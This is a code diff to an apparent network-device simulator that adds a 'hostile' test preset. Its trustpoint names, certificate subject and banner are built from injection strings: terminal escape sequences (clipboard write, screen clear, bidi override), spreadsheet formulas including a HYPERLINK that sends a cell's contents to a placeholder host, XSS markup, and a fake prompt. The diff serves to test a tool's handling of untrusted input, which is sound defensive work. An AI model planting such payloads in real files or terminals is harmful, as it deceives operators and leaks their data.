@@ -47,6 +47,7 @@ def _cert(
         not_before=start,
         not_after=end,
         hash_name=hash_name or tp.hash or p.sig_hash,
+        alt_names=[tp.subject_alt_name] if tp.subject_alt_name else None,
         utf8=p.xe,
     )
 
@@ -110,6 +111,8 @@ def build(spec: DeviceSpec, p: Personality) -> DeviceState:
         _tp_self_signed(state, spec.serial, p, 512)
     elif preset == "healthy":
         _healthy(state, p)
+    elif preset == "hostile":
+        _hostile(state, p)
     elif preset == "two-selfsigned":
         cfg.http_server = cfg.http_secure_server = True
         _tp_self_signed(state, spec.serial, p, 1024)
@@ -133,12 +136,53 @@ def _healthy(state: DeviceState, p: Personality) -> None:
         revocation_check="none",
         rsakeypair=(name, 2048, None),
         hash="sha256",
+        # the device's name in the certificate, where the release has the command (issue 17)
+        subject_alt_name=cfg.hostname if p.name != "ios12" else None,
     )
     pair = _pair(state, name, 2048)
     tp.certificate = _cert(p, tp, pair, [[("cn", cfg.fqdn())]])
     cfg.trustpoints[name] = tp
     cfg.http_server = cfg.http_secure_server = True
     cfg.http_secure_trustpoint = name
+
+
+# What a hostile device names its trustpoints and puts in their subjects and its banner: escape
+# sequences (OSC 52 writes the operator's clipboard, OSC 8 a link, CSI clears the screen, C1 CSI,
+# a bidi override), spreadsheet formulas, HTML and Markdown, a fake prompt and a fake IOS error.
+HOSTILE_OSC = "\x1b]52;c;cHNzYyBwd25lZA==\x07\x1b[2J\x9b31m"
+HOSTILE_TRUSTPOINTS = (
+    f"TP{HOSTILE_OSC}\u202e",
+    '=HYPERLINK("http://x.invalid/?"&A2,"open")',
+    "+SUM(1+1)*cmd!A0",
+    "@SUM(1+9)*cmd!A0",
+    "-2+3+cmd!A0",
+)
+HOSTILE_SUBJECT = (
+    "cn=<img src=x onerror=alert(1)><b>bold</b>[link](javascript:alert(1))"
+    "\x1b]8;;http://x.invalid/\x1b\\click\x1b]8;;\x1b\\,o=-2+3"
+)
+HOSTILE_BANNER = "\nR1#\n% Invalid input detected at '^' marker.\n\x1b]0;pwned\x07=1+1\nR1#"
+
+
+def _hostile(state: DeviceState, p: Personality) -> None:
+    """Self-signed trustpoints with hostile names and subject (the first one bound to HTTPS)
+    and a banner that imitates a prompt and an IOS error."""
+    cfg = state.config
+    for i, name in enumerate(HOSTILE_TRUSTPOINTS):
+        tp = Trustpoint(
+            name,
+            enrollment="selfsigned",
+            subject_name=HOSTILE_SUBJECT,
+            revocation_check="none",
+            rsakeypair=(f"HOSTILE-{i}", 2048, None),
+            hash="sha256",
+        )
+        pair = _pair(state, f"HOSTILE-{i}", 2048)
+        tp.certificate = _cert(p, tp, pair, [[("cn", HOSTILE_SUBJECT[3:].split(",o=")[0])]])
+        cfg.trustpoints[name] = tp
+    cfg.http_server = cfg.http_secure_server = True
+    cfg.http_secure_trustpoint = HOSTILE_TRUSTPOINTS[0]
+    cfg.banner_motd = HOSTILE_BANNER
 
 
 def temporary_identity(serial: str, p: Personality, now: datetime) -> tuple[bytes, bytes]:
